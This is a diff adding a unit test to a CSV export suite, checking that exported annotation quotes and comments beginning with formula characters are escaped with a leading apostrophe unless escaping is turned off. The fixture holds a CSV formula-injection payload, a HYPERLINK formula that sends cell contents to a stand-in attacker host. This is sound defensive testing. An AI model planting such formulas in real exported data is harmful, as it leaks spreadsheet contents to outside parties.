@@ -125,6 +125,21 @@ describe('CSV export', () => {
     expect(readBack(without)).toEqual(readBack(withBom));
   });
 
+  it('keeps spreadsheets from running a quote as a formula, unless asked for cells as stored', () => {
+    const data = exportFixture();
+    data.annotations[0]!.target.quote.exact = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    data.annotations[1]!.comment = '-20 years, he said';
+    const safe = readBack(exportCsv({ kind: 'notebook' }, data));
+    expect(safe[0]!.quote).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
+    expect(safe[1]!.comment).toBe(`'-20 years, he said`);
+    expect(safe[2]!.quote).toBe(data.annotations[2]!.target.quote.exact);
+    const raw = readBack(
+      exportCsv({ kind: 'notebook' }, data, { ...options, csvEscapeFormulas: false }),
+    );
+    expect(raw[0]!.quote).toBe(data.annotations[0]!.target.quote.exact);
+    expect(raw[1]!.comment).toBe('-20 years, he said');
+  });
+
   it('round-trips tag names holding the separator and the escape', () => {
     const data = exportFixture();
     const odd = [
